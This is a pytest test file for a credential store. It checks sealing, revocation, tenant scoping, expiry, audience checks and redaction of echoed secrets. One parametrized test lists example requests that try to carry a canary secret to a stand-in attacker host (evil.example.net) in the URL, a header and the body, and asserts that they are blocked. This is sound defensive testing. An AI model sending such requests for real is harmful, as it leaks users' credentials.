"""V1 to V5: values sealed, taken back, bound at the last moment, and kept out of every answer."""

from __future__ import annotations

import base64
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import msgspec
import pytest

from forestay.governance.credential import Credential
from forestay.governance.credentials import Credentials, Secret
from forestay.kernel import Ledger, ManualClock, Problem, SeededRandomness
from forestay.runs import HttpRequest, HttpResponse

VALUE = "canary-5e2f9c81d0"
API = Credential(credential_id="api", audiences=("api.example.com",))
INSIDE = HttpRequest(method="GET", url="https://api.example.com/v1", headers={"authorization": "own"}, credential="api")


@asynccontextmanager
async def opened(folder: Path, clock: ManualClock) -> AsyncIterator[Credentials]:
    async with Ledger.open(folder / "l.db", clock=clock) as ledger:
        kept = Credentials(ledger, clock=clock, randomness=SeededRandomness(1))
        await kept.start()
        yield kept


def found(folder: Path, text: str) -> list[str]:
    """The files that hold `text`, plain, in base64 or in hex."""
    forms = (text.encode(), base64.b64encode(text.encode())[:-4], text.encode().hex().encode())
    return [
        file.name for file in folder.rglob("*") if file.is_file() and any(form in file.read_bytes() for form in forms)
    ]


async def reason(kept: Credentials, request: HttpRequest, tenant: str = "acme") -> str:
    with pytest.raises(Problem) as caught:
        await kept.attach(tenant, request, "w")
    assert caught.value.key == "credential_forbidden" and VALUE not in str(caught.value.as_lafs())
    return str(caught.value.details["reason"])


async def test_v1_v2_a_value_is_sealed_and_gone_when_it_is_taken_back(tmp_path: Path, clock: ManualClock) -> None:
    async with opened(tmp_path, clock) as kept:
        await kept.put("acme", API, Secret(VALUE))
        assert found(tmp_path, VALUE) == []
        keys = list((tmp_path / "l.db.keys").glob("cred_*"))
        assert len(keys) == 1
        await kept.put("acme", API, Secret(VALUE + "-2"))  # rotated
        assert not keys[0].exists() and len(list((tmp_path / "l.db.keys").glob("cred_*"))) == 1
        attached = await kept.attach("acme", INSIDE, "w")
        assert attached.request.headers == {"Authorization": f"Bearer {VALUE}-2"}
    async with opened(tmp_path, clock) as again:
        assert (await again.attach("acme", INSIDE, "w")).request.headers["Authorization"].endswith("-2")
        await again.revoke("acme", "api")
        assert list((tmp_path / "l.db.keys").glob("cred_*")) == []
        assert await reason(again, INSIDE) == "provenance-unevaluable"
        with pytest.raises(Problem, match="no such credential"):
            await again.revoke("acme", "api")
    (tmp_path / "seen").write_text(VALUE)
    assert found(tmp_path, VALUE) == ["seen"]  # the search can find


async def test_v2_a_key_that_a_crash_left_is_destroyed_at_the_next_start(tmp_path: Path, clock: ManualClock) -> None:
    async with opened(tmp_path, clock) as kept:
        await kept.put("acme", API, Secret(VALUE))
        (key,) = (tmp_path / "l.db.keys").glob("cred_*")
        held = key.read_bytes()
        await kept.revoke("acme", "api")
    key.write_bytes(held)  # recorded as taken back, and killed before the key was destroyed
    (tmp_path / "l.db.keys" / "cred_unwritten").write_bytes(held)  # a key whose credential was never recorded
    async with opened(tmp_path, clock):
        assert list((tmp_path / "l.db.keys").glob("cred_*")) == []


async def test_v1_a_value_opens_for_no_other_tenant_and_no_other_id(tmp_path: Path, clock: ManualClock) -> None:
    async with opened(tmp_path, clock) as kept:
        await kept.put("acme", API, Secret(VALUE))
        assert await reason(kept, INSIDE, "other") == "provenance-unevaluable"
        assert await kept.listed("other") == []
        with pytest.raises(Problem):
            await kept.revoke("other", "api")
        store = await kept._store("acme")
        stolen = msgspec.structs.replace(store.kept["api"], about=msgspec.structs.replace(API, credential_id="mine"))
        assert await kept._secret("acme", msgspec.structs.replace(store.kept["api"], key=stolen.key)) is not None
        kept._open.clear()
        assert await kept._secret("acme", stolen) is None
        assert await kept._secret("other", store.kept["api"]) is None


async def test_v3_what_expired_meanwhile_is_not_attached(tmp_path: Path, clock: ManualClock) -> None:
    async with opened(tmp_path, clock) as kept:
        await kept.put("acme", msgspec.structs.replace(API, expires_ms=clock.now_ms() + 1000), Secret(VALUE))
        assert (await kept.attach("acme", INSIDE, "w")).decided is not None
        clock.advance(1)
        assert await reason(kept, INSIDE) == "expired"


@pytest.mark.parametrize(
    "request_",
    [
        HttpRequest(method="GET", url=f"https://evil.example.net/?k={VALUE}"),
        HttpRequest(method="GET", url="https://evil.example.net/", headers={"x-key": f"Bearer {VALUE}"}),
        HttpRequest(method="POST", url="https://evil.example.net/", body=b'{"k":"' + VALUE.encode() + b'"}'),
        HttpRequest(method="GET", url=f"https://evil.example.net/{VALUE}", credential="other"),
    ],
)
async def test_v4_a_leaked_value_is_not_carried_out(tmp_path: Path, clock: ManualClock, request_: HttpRequest) -> None:
    async with opened(tmp_path, clock) as kept:
        await kept.put("acme", API, Secret(VALUE))
        await kept.put(
            "acme", msgspec.structs.replace(API, credential_id="other", audiences=("*.example.net",)), Secret("y" * 9)
        )
        assert await reason(kept, request_) == "out-of-audience"
        inside = HttpRequest(method="GET", url=f"https://api.example.com/?k={VALUE}")
        assert (await kept.attach("acme", inside, "w")).request == inside
        assert (await kept.attach("nobody", request_ if request_.credential is None else inside, "w")).decided is None


async def test_v5_a_server_that_repeats_a_value_is_blotted_out(tmp_path: Path, clock: ManualClock) -> None:
    async with opened(tmp_path, clock) as kept:
        await kept.put("acme", API, Secret(VALUE))
        attached = await kept.attach("acme", INSIDE, "w")
        echo = HttpResponse(status=200, headers={"x": f"a {VALUE}"}, body=f"<{VALUE}> {VALUE}".encode())
        shown = attached.blotted(echo)
        assert shown.headers == {"x": "a [REDACTED]"} and shown.body == b"<[REDACTED]> [REDACTED]"
        assert shown.decided is not None and shown.decided.decision == "allowed"


async def test_a_tenant_has_a_bound(tmp_path: Path, clock: ManualClock, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("forestay.governance.credentials.MAX_PER_TENANT", 1)
    async with opened(tmp_path, clock) as kept:
        await kept.put("acme", API, Secret(VALUE))
        await kept.put("acme", API, Secret(VALUE))
        with pytest.raises(Problem) as caught:
            await kept.put("acme", msgspec.structs.replace(API, credential_id="two"), Secret(VALUE))
        assert caught.value.key == "state_conflict"
